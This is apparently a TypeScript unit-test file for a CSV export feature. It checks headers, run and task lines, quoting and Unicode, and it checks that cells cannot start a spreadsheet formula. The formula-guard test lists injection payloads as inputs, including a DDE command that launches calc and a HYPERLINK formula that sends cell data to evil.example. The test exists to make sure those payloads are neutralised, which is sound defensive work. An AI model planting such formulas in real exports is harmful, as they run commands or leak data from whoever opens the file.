import assert from 'node:assert/strict';
import { csvLines } from '../../../src/export/csv';
import { fileFormats } from '../../../src/export/formats';
import { aRun, aTask, exported, textOf, type Given } from './support';

const csv = (withTasks: boolean, ...runs: Given[]) => textOf(fileFormats.csv(exported(...runs), withTasks));

describe('CSV', () => {
  it('starts with a byte order mark for spreadsheets, and one line of titles', async () => {
    const titles = 'Space,Space Token,Run ID,Status,Mode,Created (UTC),Collection,Tasks';
    assert.equal(await csv(false), `\ufeff${titles}\r\n`);
    assert.equal(
      await csv(true),
      `\ufeff${titles},Task ID,Task Status,Contact Name,Contact Number,Call Status,Start (UTC),End (UTC),` +
        'Duration (s),Summary,Labels,Recording\r\n',
    );
  });

  it('has a line per run, with times in UTC and nothing for unknown values', async () => {
    const bare = aRun({
      id: 'R2',
      status: '',
      mode: undefined,
      collection: undefined,
      createdAt: undefined,
      taskCount: undefined,
    });
    const [, first, second, last] = (await csv(false, { run: aRun() }, { run: bare })).split('\r\n');
    assert.equal(
      first,
      'Sales,8KZQ4T7WNC2LPX5RVB9HMD3S,R1,completed,prefect,2026-02-07T12:00:00Z,collection_data_contact,9',
    );
    assert.equal(second, 'Sales,8KZQ4T7WNC2LPX5RVB9HMD3S,R2,,,,,');
    assert.equal(last, '');
  });

  it('has a line per task that starts with the run, and one for a run without tasks', async () => {
    const [a, b] = [aTask(), aTask({ id: 'T2', contactName: undefined, duration: 0, recording: undefined })];
    const text = await csv(true, { run: aRun(), tasks: [[a], [b]] }, { run: aRun({ id: 'R2' }), tasks: [] });
    const run = (id: string) =>
      `Sales,8KZQ4T7WNC2LPX5RVB9HMD3S,${id},completed,prefect,2026-02-07T12:00:00Z,collection_data_contact,9`;
    assert.deepEqual(text.split('\r\n').slice(1), [
      `${run('R1')},T1,completed,Aditi Mehta,'+15550000000,connected,2026-02-07T12:00:01Z,2026-02-07T12:01:13Z,72.5,` +
        'Wants a call.,"follow-up, warm",https://recordings.example/1.ogg',
      `${run('R1')},T2,completed,,'+15550000000,connected,2026-02-07T12:00:01Z,2026-02-07T12:01:13Z,0,` +
        'Wants a call.,"follow-up, warm",',
      `${run('R2')},,,,,,,,,,,`,
      '',
    ]);
  });

  it('quotes commas, quotes and line breaks, and keeps any Unicode', () => {
    assert.equal(
      csvLines([['a,b', 'say "hi"', 'one\ntwo', 'three\r\nfour']]),
      '"a,b","say ""hi""","one\ntwo","three\r\nfour"\r\n',
    );
    const unicode = ['शिवम मेहता', 'שיחות שירות', '👩🏽‍💼🇮🇳', 'naïve'];
    assert.equal(csvLines([unicode]), `${unicode.join(',')}\r\n`);
  });

  it('lets no text start a formula', () => {
    const evil = [
      '=1+1',
      '+15550000000',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '＝1',
      '＋1',
      '－1',
      '＠A',
      '−1',
      ' =1',
      '\u00a0\u200b =1',
      '\ufeff=1',
      '"=1',
      "'=1",
      '“=1',
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example?"&A1,"x")',
    ];
    for (const text of evil) {
      const line = csvLines([[text, 'next']]);
      const cell = line.startsWith('"') ? line.slice(1) : line;
      assert.ok(cell.startsWith("'"), `not guarded: ${JSON.stringify(text)} became ${line}`);
      assert.ok(!cell.startsWith("''") || text.startsWith("'"), `guarded twice: ${line}`);
    }
  });

  it('leaves numbers and harmless texts as they are', () => {
    assert.equal(
      csvLines([[-1, 2.5, 'a=b', '1-2', 'me@example.com', "it's"]]),
      "-1,2.5,a=b,1-2,me@example.com,it's\r\n",
    );
  });
});
